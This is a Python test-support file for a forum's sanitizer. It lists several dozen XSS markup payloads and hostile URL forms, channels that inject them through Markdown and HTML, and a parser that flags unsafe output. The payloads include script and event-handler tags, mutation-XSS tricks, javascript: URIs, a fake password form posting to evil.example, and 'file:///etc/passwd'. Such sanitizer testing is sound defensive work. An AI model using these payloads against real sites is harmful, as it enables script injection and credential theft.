"""Hostile inputs of our own writing, the channels they come through, and a judge that reads what came out."""

from collections.abc import Callable, Iterator
from html.parser import HTMLParser

from forum.text.sanitize import LINK_RELATION, TAGS

ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "ol": {"start"},
    "code": {"class"},
    "th": {"class"},
    "td": {"class"},
    "img": {"src", "alt", "width", "height"},
}
STARTS = ("http://", "https://", "mailto:")

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='/uploads/1/a.png' onload=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img alt="`><script>alert(1)</script>">',
    "<img srcset='https://evil.example/x 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate href=#x attributeName=href values=javascript:alert(1) /></svg>",
    "<svg></p><style><a title='</style><img src onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<body onload=alert(1)>",
    "<body/onpageshow=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
    "<button formaction='javascript:alert(1)'>go</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p onclick=alert(1) id=submission class='flash' name=csrf_token>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]><p>&x;</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:1'>x</a>",
    "<a href='/&#47;evil.example/'>x</a>",
    "<a href='/&#92;evil.example/'>x</a>",
    "<a href='/&#9;/evil.example/'>x</a>",
    "<a href='/\t/evil.example/'>x</a>",
    "<a href='https://a.example/' target=_blank ping='https://evil.example/' rel=opener onclick=alert(1)>x</a>",
    "<a href='https://a.example/'><a href='javascript:1'>x</a></a>",
    "<a>no address</a>",
    "<td class='left' class='x' background=javascript:alert(1)>x</td>",
    "<table background='javascript:alert(1)'><tr><td class='left flash'>x</td></tr></table>",
    "<ol start='1' onclick=1><li value=javascript:1>x</li></ol>",
    "<ol start='9999999999'><li>x</li></ol>",
    "<code class='language-x onload=alert(1)'>x</code>",
    "<div hx-get='/admin' hx-trigger=load data-confirm=x>x</div>",
    "<p hx-post='/x' hx-on:click='alert(1)'>x</p>",
    "<x-y is=z onclick=alert(1)>x</x-y>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) x=`",
    '" onmouseover="alert(1)',
    "</p></blockquote></div><script>alert(1)</script>",
    "{{ 7 * 7 }}{% include 'x' %}<script>${1}</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202e<script>alert(1)</script>\u2066",
    "<a href='https://a.example/\u2028onclick=alert(1)'>x</a>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript:1",
    "javascript:12345",
    "vbscript:1",
    "data:1",
    "java\tscript:1",
    "javascript&colon;1",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61;vascript:1",
    "%6Aavascript:alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:1",
    "javascript://https://a.example/%0Aalert(1)",
    "jar:https://evil.example/x",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
    "ftp://evil.example/",
    "intent://evil.example/#Intent;end",
    "view-source:https://evil.example/",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "data:image/png;base64,iVBOR",
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "\\\\evil.example/",
    "\\/evil.example/",
    "/&#47;evil.example/",
    "/&sol;evil.example/",
    "/&bsol;evil.example/",
    "/&Tab;/evil.example/",
    "/&NewLine;/evil.example/",
    "#/evil.example",
    "#\\evil.example",
    "evil.example",
    "evil.example:80",
    "https:evil.example",
    "https:/evil.example",
    "https:\\\\evil.example",
    "mailto",
    "://evil.example",
    "?javascript:1",
    "/uploads/1/../../sign-out",
    "/uploads/1/..",
    "/uploads/x/a.png",
    "/uploads/1/a.png?onload=1",
    "/uploads/1/a.png#x",
    "/uploads/1/a b.png",
    "/uploads/\u0661/a.png",
    "https://evil.example/uploads/1/a.png",
    "https://[::1",
    'https://evil.example/" onclick="alert(1)',
)
VECTORS = MARKUP + ADDRESSES

MARKDOWN_CHANNELS = {
    "text": "{0}",
    "link address": "[x]({0})",
    "link address in angles": "[x](<{0}>)",
    "image address": "![x]({0})",
    "image address in angles": "![x](<{0}>)",
    "alt text": "![{0}](/uploads/1/a.png)",
    "link title": '[x](https://a.example "{0}")',
    "link title in brackets": "[x](https://a.example ({0}))",
    "link words": "[{0}](https://a.example)",
    "code fence": "```{0}\nx\n```",
    "code fence of tildes": "~~~ {0}\nx\n~~~",
    "code": "`{0}`",
    "table cell": "| a | b |\n|:-:|--:|\n| {0} | x |",
    "table head": "| {0} | b |\n|---|---|\n| a | x |",
    "task": "- [x] {0}",
    "heading": "# {0}",
    "quotation": "> {0}",
    "bare link": "see https://a.example/{0} there",
    "angle link": "<{0}>",
    "definition": "[x]: {0}\n\n[x]",
    "mention": "@{0}",
}
HTML_CHANNELS = {
    "html": "{0}",
    "href": '<a href="{0}">x</a>',
    "href without quotes": "<a href={0}>x</a>",
    "src": "<img src='{0}'>",
    "title": '<a href="https://a.example" title="{0}">x</a>',
    "alt": '<img src="/uploads/1/a.png" alt="{0}">',
    "class": '<code class="language-{0}">x</code>',
    "cell": '<table><tr><td class="{0}">{0}</td></tr></table>',
    "start": '<ol start="{0}"><li>{0}</li></ol>',
}


class Judge(HTMLParser):
    """Reads HTML as a browser does and writes down everything that should not be there."""

    def __init__(self, *, may_lack_address: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.may_lack_address = may_lack_address
        self.faults: list[str] = []
        self.shape: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.words = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, tuple(sorted(attrs, key=str))))
        if tag not in TAGS:
            self.faults.append(f"tag {tag}")
        values = {name: value or "" for name, value in attrs}
        self.faults += [f"attribute {tag} {name}" for name in values if name not in ATTRIBUTES.get(tag, set())]
        if tag == "a" and values.get("rel") != LINK_RELATION:
            self.faults.append(f"relation {values}")
        if tag == "a" and not self._leads_well(values, "href", is_ours):
            self.faults.append(f"link {values}")
        if tag == "img" and not self._leads_well(values, "src", is_upload):
            self.faults.append(f"image {values}")

    def _leads_well(self, values: dict[str, str], name: str, judge: Callable[[str], bool]) -> bool:
        return judge(values[name]) if name in values else self.may_lack_address

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"declaration {data}")


def is_ours(address: str) -> bool:
    """Whether a browser can only go to the web, to mail or to our own pages."""
    seen = "".join(c for c in address if c not in "\t\r\n").strip().lower()
    if seen.startswith(STARTS):
        return True
    return seen.startswith(("/", "#")) and not seen[1:].startswith(("/", "\\"))


def is_upload(address: str) -> bool:
    """Whether an image address is one of our uploads."""
    empty, uploads, number, name = [*address.split("/"), "", "", "", ""][:4]
    return (empty, uploads) == ("", "uploads") and number.isascii() and number.isdigit() and name.strip(".") != ""


def faults_of(html: str, *, may_lack_address: bool = False) -> list[str]:
    """What is in the HTML that should not be; empty when all is well."""
    judge = Judge(may_lack_address=may_lack_address)
    judge.feed(html)
    judge.close()
    return judge.faults


def shape_of(html: str) -> tuple[list[tuple[str, tuple[tuple[str, str | None], ...]]], str]:
    """The tags with their attributes and the words, however quotes are written."""
    judge = Judge(may_lack_address=True)
    judge.feed(html)
    judge.close()
    return judge.shape, judge.words


def every_markdown() -> Iterator[tuple[str, str]]:
    """Each vector through each Markdown channel, with the channel's name."""
    for name, channel in MARKDOWN_CHANNELS.items():
        for vector in VECTORS:
            yield name, channel.format(vector)


def every_html() -> Iterator[tuple[str, str]]:
    """Each vector through each HTML channel, with the channel's name."""
    for name, channel in HTML_CHANNELS.items():
        for vector in VECTORS:
            yield name, channel.format(vector)
